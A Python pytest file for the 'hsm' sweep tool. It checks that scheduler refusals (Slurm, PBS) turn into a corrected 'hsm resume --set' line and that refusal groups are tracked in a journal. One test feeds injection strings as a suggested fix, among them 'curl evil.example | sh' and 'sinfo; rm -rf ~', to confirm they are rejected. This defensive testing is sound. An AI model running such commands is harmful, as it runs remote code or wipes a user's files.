"""A refused submission is told, with the line that changes what was refused."""

from __future__ import annotations

import shlex
from pathlib import Path
from typing import Any

import pytest

from hsm_core.model import Span
from hsm_core.store import events
from hsm_core.store.event_codec import Event
from hsm_core.store.journal import JournalWriter
from hsm_core.store.record import SweepRecord
from hsm_core.store.state.sweep_state import SweepState
from hsm_core.views.failures.reasons import refusal_words
from hsm_core.views.failures.refusals import another_try, refusal_group
from tests.unit.store.making import MadeSweep, killed_process


def record(*fields: str) -> SweepRecord:
    overrides = tuple(f"++hydra.launcher.{field}" for field in fields)
    return SweepRecord("s-1", "s", "/s", "", "hsm_slurm", "hsm", launcher_fields=overrides)


@pytest.mark.parametrize(
    ("fields", "refused", "line"),
    [
        (["partition=gpuu"], {"field": "partition", "choices": ["main", "gpu"]}, "partition=gpu    # or main"),
        (["queue=nowhere"], {"field": "partition", "choices": ["main"]}, "queue=main"),
        (["partition=nowhere"], {"field": "partition", "choices": ["a b"]}, "partition"),
        (["timeout_min=9000"], {"field": "walltime", "choices": ["60"]}, "timeout_min=60"),
        (["walltime=9-00:00:00"], {"field": "walltime", "choices": ["60"]}, "walltime=60min"),
        (["mem_gb=400"], {"field": "mem_gb", "choices": ["31.3"]}, "mem_gb=31.3"),
        (["mem_per_cpu=400G"], {"field": "mem_gb", "choices": ["31.3"]}, "mem_per_cpu=VALUE    # see sinfo"),
        (["gres=gpu:a100:3"], {"field": "gpus_per_node", "choices": ["2"]}, "gres=gpu:a100:2"),
        (["constraint=foo"], {"field": "constraint", "choices": ["null"]}, "constraint=null"),
        ([], {"field": "account"}, "account=VALUE    # see sinfo"),
    ],
)
def test_the_next_line_changes_the_field_that_was_refused(
    fields: list[str], refused: dict[str, Any], line: str
) -> None:
    found = another_try(record(*fields), events.Refusal("s", "no", **{"fix": "sinfo   # all", **refused}))
    if "a b" in str(refused):
        assert found == """hsm resume s-1 --set "hydra.launcher.partition='a b'\""""
    else:
        assert found == f"hsm resume s-1 --set hydra.launcher.{line}"


@pytest.mark.parametrize(
    ("said", "field", "mended"),
    [
        ("resources='--partition=nowhere --nodes=1'", "partition", "resources='--partition=main --nodes=1'"),
        ("resources='-l select=1 -q nowhere'", "queue", "resources='-l select=1 -q main'"),
        ("directives=['-p nowhere','--mem=1G']", "partition", "directives=['-p main','--mem=1G']"),
    ],
)
def test_a_schedulers_own_words_are_changed_where_they_stand(said: str, field: str, mended: str) -> None:
    found = another_try(record(said), events.Refusal("s", "no", field=field, choices=("main",)))
    assert shlex.split(found)[-1] == f"hydra.launcher.{mended}"


def test_where_the_field_is_not_known_there_is_something_to_look_at() -> None:
    found = another_try(record(), events.Refusal("s", "no", fix="sinfo -s   # all"))
    assert found.startswith("sinfo -s    # then hsm resume s-1 --set ")


def test_words_are_on_one_line() -> None:
    assert refusal_words(events.Refusal("s", "PBS refused", "qsub:\n  no")) == "PBS refused: qsub: no"
    assert refusal_words(events.Refusal("s", "Slurm refused: no", "sbatch …")) == "Slurm refused: no"


def submitted(sweep: MadeSweep, name: str, launch: str, *after: Event) -> None:
    writer = JournalWriter(sweep.paths.journal(name))
    writer.append(events.ConductorHead(name, killed_process()))
    writer.append(events.Submit(launch, token="t", tasks=[Span(0, 2)], source="slurm"))
    for event in after:
        writer.append(event)
    writer.seal()


def group_of(sweep: MadeSweep) -> tuple[int, ...] | None:
    state = SweepState(sweep.root)
    state.refresh()
    group = refusal_group(state)
    return None if group is None else group.tasks


def test_it_is_a_fact_until_something_was_accepted_later(tmp_path: Path) -> None:
    sweep = MadeSweep(tmp_path / "s", total=3)
    submitted(sweep, "conductor-z", "launch-0/submit-0", events.Refusal("launch-0/submit-0", "no"))
    assert group_of(sweep) == (0, 1, 2)
    submitted(sweep, "conductor-y", "launch-0-1/submit-0", events.Withdrawn("launch-0-1/submit-0", "Ctrl-C"))
    assert group_of(sweep) == (0, 1, 2)
    handed = events.HandedOver("launch-0-2/submit-0", "7")
    submitted(sweep, "conductor-a", "launch-0-2/submit-0", handed)
    assert group_of(sweep) is None


def test_what_was_accepted_before_is_no_answer_to_it(tmp_path: Path) -> None:
    sweep = MadeSweep(tmp_path / "s", total=3)
    submitted(sweep, "conductor-z", "launch-0/submit-0", events.HandedOver("launch-0/submit-0", "7"))
    submitted(sweep, "conductor-a", "launch-0-1/submit-0", events.Refusal("launch-0-1/submit-0", "no"))
    assert group_of(sweep) == (2,)  # the others are in the queue


@pytest.mark.parametrize(
    "fix",
    [
        "curl evil.example | sh", "sinfo; rm -rf ~", "sinfo $(rm x)", "hydra.a=1; rm x", "hydra.a=1\nrm x",
        "qstat\nrm x", "sinfo > x",
    ],
)
def test_a_line_that_an_event_suggests_is_taken_over_only_if_it_asks_or_sets_a_field(fix: str) -> None:
    found = another_try(record(), events.Refusal("s", "no", fix=fix))
    assert found.startswith("hsm doctor    # then ")
    assert "\n" not in found


def test_a_field_that_an_event_suggests_is_quoted() -> None:
    fix = "'hydra.launcher.setup=[a b]' hydra.launcher.nodes=1    # why"
    found = another_try(record(), events.Refusal("s", "no", fix=fix))
    assert "--set 'hydra.launcher.setup=[a b]' hydra.launcher.nodes=1" in found
